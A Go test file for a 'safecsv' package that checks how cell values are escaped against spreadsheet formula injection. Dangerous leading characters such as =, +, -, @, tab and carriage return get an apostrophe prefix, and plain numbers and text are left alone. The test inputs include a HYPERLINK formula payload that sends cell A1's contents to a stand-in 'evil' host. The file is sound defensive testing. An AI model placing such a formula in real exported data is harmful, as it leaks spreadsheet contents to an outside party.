package safecsv

import (
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
		{"+1+2", "'+1+2"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tcmd", "'\tcmd"},
		{"\r=1", "'\r=1"},
		{"  =1+1", "'  =1+1"},
		{"-12.50", "-12.50"},
		{"+3", "+3"},
		{"-Inf", "'-Inf"},
		{"-0x10", "'-0x10"},
		{"Ann", "Ann"},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var b strings.Builder
	w := NewWriter(&b)
	w.Write([]string{"name", "value"})
	w.Write([]string{`=HYPERLINK("http://evil/?"&A1,"x")`, "-5"})
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	want := "name,value\n\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",-5\n"
	if b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}
